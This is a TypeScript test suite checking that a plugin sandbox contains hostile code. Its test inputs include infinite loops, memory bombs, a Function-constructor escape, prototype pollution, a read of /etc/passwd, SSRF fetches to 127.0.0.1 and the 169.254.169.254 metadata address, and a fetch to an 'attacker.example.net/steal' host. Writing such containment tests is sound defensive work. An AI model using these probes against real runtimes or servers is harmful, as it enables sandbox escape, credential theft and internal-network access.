import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PluginRuntime, type InvocationRecord, type PluginVersion } from '@guild/plugin-runtime';
import { cart, install, pluginVersion, WELL_BEHAVED } from '../support/plugins.js';

// Every hostile plugin runs in the same single worker process as a well-behaved one, which must
// still answer right after: containment means the host, the worker and other plugins carry on.
const hostile = (body: string, manifest = {}) => pluginVersion(`export default { functions: { 'cart.discounts': ${body} } };`, { limits: { memoryMb: 32, timeoutMs: 200 }, ...manifest });
const withHttp = (body: string) =>
  hostile(body, { permissions: ['functions:cart.discounts', 'http:hooks.example.com', 'http:metadata.example.com', 'http:intranet.example.com'] });

const ADDRESSES: Record<string, string> = {
  'hooks.example.com': '127.0.0.1',
  'metadata.example.com': '169.254.169.254',
  'intranet.example.com': '10.0.0.7',
};

describe('hostile plugins are contained', () => {
  let runtime: PluginRuntime;
  let server: Server;
  let port: number;
  const hits: string[] = [];
  const good = pluginVersion(WELL_BEHAVED);

  beforeAll(async () => {
    server = createServer((request, response) => {
      hits.push(request.url ?? '');
      if (request.url === '/to-metadata') return response.writeHead(302, { location: 'http://metadata.example.com/latest/meta-data/' }).end();
      if (request.url === '/to-intranet') return response.writeHead(307, { location: `http://intranet.example.com:${port}/admin` }).end();
      response.end('ok');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    runtime = new PluginRuntime({
      workers: 1,
      // hooks.example.com stands for a real public host: it resolves to this test's server, which the operator exempts.
      http: { lookup: async (host) => [{ address: ADDRESSES[host] ?? '203.0.113.9', family: 4 }], exemptAddresses: ['127.0.0.1/32'] },
    });
  });

  afterAll(async () => {
    await runtime.stop();
    await new Promise((resolve) => server.close(resolve));
  });

  afterEach(async () => {
    const next = await runtime.invoke(good, install('good-install'), 'cart.discounts', cart());
    expect(next).toMatchObject({ outcome: 'ok', output: { discounts: [{ lineId: 'line_1', amount: 100 }] } });
  });

  const run = (plugin: PluginVersion, installId = 'hostile-install'): Promise<InvocationRecord> => runtime.invoke(plugin, install(installId), 'cart.discounts', cart());

  it('stops an infinite loop at the CPU limit', async () => {
    const record = await run(hostile('() => { while (true) {} }'));
    expect(record).toMatchObject({ outcome: 'timeout', error: { code: 'CPU_TIME_EXCEEDED' } });
    // Stopped by the engine's CPU count (not by the wall clock or the watchdog): the code says which.
    expect(record.cpuMs).toBeGreaterThanOrEqual(200);
  });

  it('stops a loop that starts after an await (where isolate timeouts stop counting)', async () => {
    const record = await run(hostile('async () => { await null; await Promise.resolve(); for (;;) {} }'));
    expect(record).toMatchObject({ outcome: 'timeout', error: { code: 'CPU_TIME_EXCEEDED' } });
  });

  it('stops a memory bomb at the memory limit', async () => {
    const record = await run(hostile('() => { const hoard = []; for (;;) hoard.push(new Array(100000).fill("x")); }'));
    expect(record).toMatchObject({ outcome: 'memory', error: { code: 'MEMORY_LIMIT_EXCEEDED' } });
  });

  it('stops one huge allocation at the memory limit', async () => {
    const record = await run(hostile('() => ({ discounts: [], big: new ArrayBuffer(512 * 1024 * 1024) })'));
    expect(record).toMatchObject({ outcome: 'memory', error: { code: 'MEMORY_LIMIT_EXCEEDED' } });
  });

  it('turns unbounded recursion into a stack overflow error', async () => {
    const record = await run(hostile('() => { const down = (n) => down(n + 1) + 1; return down(0); }'));
    expect(record).toMatchObject({ outcome: 'error', error: { code: 'STACK_OVERFLOW' } });
  });

  it('drops a huge return value before it reaches the host', async () => {
    const record = await run(hostile('() => ({ discounts: [], padding: "x".repeat(4 * 1024 * 1024) })'));
    expect(record).toMatchObject({ outcome: 'error', error: { code: 'OUTPUT_TOO_LARGE' } });
    expect(record.output).toBeUndefined();
  });

  it('cannot reach process or require', async () => {
    const exit = await run(hostile('() => { process.exit(1); }'));
    expect(exit).toMatchObject({ outcome: 'error', error: { code: 'PLUGIN_ERROR', message: expect.stringContaining('process is not defined') } });
    const fs = await run(hostile('() => require("fs").readFileSync("/etc/passwd", "utf8")'));
    expect(fs).toMatchObject({ outcome: 'error', error: { code: 'PLUGIN_ERROR', message: expect.stringContaining('require is not defined') } });
  });

  it('reports what a plugin can see as undefined', async () => {
    const plugin = pluginVersion(
      `export default { functions: { 'cart.discounts': (cart, ctx) => { ctx.log.info([typeof process, typeof require, typeof module, typeof setTimeout, typeof setInterval, typeof fetch, typeof WebAssembly, typeof __guildHostCall].join()); return { discounts: [] }; } } };`,
    );
    const record = await run(plugin);
    expect(record.outcome).toBe('ok');
    expect(record.logs[0].message).toBe(Array(8).fill('undefined').join());
  });

  it('refuses the globalThis.constructor route to the Function constructor', async () => {
    const record = await run(hostile('() => globalThis.constructor.constructor("return process")().exit(1)'));
    expect(record).toMatchObject({ outcome: 'error', error: { code: 'PLUGIN_ERROR', message: expect.stringContaining('eval is not supported') } });
  });

  it('refuses the Function constructor and its async and generator cousins', async () => {
    for (const expression of ['Function("return this")()', '(async () => {}).constructor("return 1")()', '(function* () {}).constructor("yield 1")()', 'eval("1 + 1")']) {
      const record = await run(hostile(`() => ${expression}`));
      expect(record).toMatchObject({ outcome: 'error', error: { message: expect.stringContaining('eval is not supported') } });
    }
  });

  it('keeps prototype pollution inside its own sandbox', async () => {
    const plugin = hostile(`(cart) => {
      if (cart.cartId === 'pollute') {
        cart.__proto__.polluted = 'yes';
        Object.prototype.polluted = 'yes';
        Array.prototype.map = () => { throw new Error('sabotaged'); };
        return { discounts: [] };
      }
      return { discounts: [{ lineId: 'line_1', amount: 1, currency: 'EUR', label: ({}).polluted ? 'polluted' : 'clean' }] };
    }`);
    const input = cart({ cartId: 'pollute' });
    expect(await runtime.invoke(plugin, install('polluter'), 'cart.discounts', input)).toMatchObject({ outcome: 'ok' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(input).toEqual(cart({ cartId: 'pollute' }));
    // The same plugin version for another buyer runs in its own sandbox, untouched.
    const other = await runtime.invoke(plugin, install('other-buyer'), 'cart.discounts', cart());
    expect(other).toMatchObject({ outcome: 'ok', output: { discounts: [{ label: 'clean' }] } });
  });

  it('cannot smuggle __proto__ into the host through its answer', async () => {
    const record = await run(hostile(`() => JSON.parse('{"discounts":[],"__proto__":{"polluted":"yes"}}')`));
    expect(record).toMatchObject({ outcome: 'error', error: { code: 'OUTPUT_INVALID' } });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('has no Atomics to block on shared memory with', async () => {
    const record = await run(hostile('() => { const cell = new Int32Array(new SharedArrayBuffer(4)); Atomics.wait(cell, 0, 0); }'));
    expect(record).toMatchObject({ outcome: 'error', error: { code: 'PLUGIN_ERROR', message: expect.stringContaining('Atomics is not defined') } });
  });

  it('refuses a fetch to 127.0.0.1', async () => {
    const record = await run(withHttp('async (cart, ctx) => { await ctx.http.fetch("http://127.0.0.1/admin"); }'));
    expect(record).toMatchObject({ outcome: 'permission', error: { code: 'HOST_NOT_ALLOWED' } });
    expect(record.denied).toEqual([expect.objectContaining({ capability: 'http.fetch', code: 'HOST_NOT_ALLOWED' })]);
  });

  it('refuses an allow-listed name that resolves to a loopback address the operator did not exempt', async () => {
    const strict = new PluginRuntime({ workers: 1, http: { lookup: async () => [{ address: '127.0.0.1', family: 4 }] } });
    try {
      const record = await strict.invoke(withHttp(`async (cart, ctx) => { await ctx.http.fetch("http://hooks.example.com:${port}/"); }`), install(), 'cart.discounts', cart());
      expect(record).toMatchObject({ outcome: 'permission', error: { code: 'ADDRESS_NOT_ALLOWED' } });
    } finally {
      await strict.stop();
    }
  });

  it('refuses 169.254.169.254, by address and by a name that resolves to it', async () => {
    const literal = await run(withHttp('async (cart, ctx) => { await ctx.http.fetch("http://169.254.169.254/latest/meta-data/"); }'));
    expect(literal).toMatchObject({ outcome: 'permission', error: { code: 'HOST_NOT_ALLOWED' } });
    const named = await run(withHttp('async (cart, ctx) => { await ctx.http.fetch("http://metadata.example.com/latest/meta-data/"); }'));
    expect(named).toMatchObject({ outcome: 'permission', error: { code: 'ADDRESS_NOT_ALLOWED' } });
  });

  it('refuses a redirect to a private address, without following it', async () => {
    hits.length = 0;
    const toMetadata = await run(withHttp(`async (cart, ctx) => { await ctx.http.fetch("http://hooks.example.com:${port}/to-metadata"); }`));
    expect(toMetadata).toMatchObject({ outcome: 'permission', error: { code: 'ADDRESS_NOT_ALLOWED' } });
    const toIntranet = await run(withHttp(`async (cart, ctx) => { await ctx.http.fetch("http://hooks.example.com:${port}/to-intranet"); }`));
    expect(toIntranet).toMatchObject({ outcome: 'permission', error: { code: 'ADDRESS_NOT_ALLOWED' } });
    expect(hits).toEqual(['/to-metadata', '/to-intranet']);
  });

  it('refuses a host the manifest does not allow-list', async () => {
    const record = await run(withHttp('async (cart, ctx) => { await ctx.http.fetch("https://attacker.example.net/steal"); }'));
    expect(record).toMatchObject({ outcome: 'permission', error: { code: 'HOST_NOT_ALLOWED' } });
  });

  it('refuses an allow-listed host the buyer did not grant', async () => {
    const plugin = withHttp(`async (cart, ctx) => { await ctx.http.fetch("http://hooks.example.com:${port}/"); }`);
    const record = await runtime.invoke(plugin, { ...install(), permissions: ['functions:cart.discounts'] }, 'cart.discounts', cart());
    expect(record).toMatchObject({ outcome: 'permission', error: { code: 'PERMISSION_NOT_GRANTED' } });
  });
});
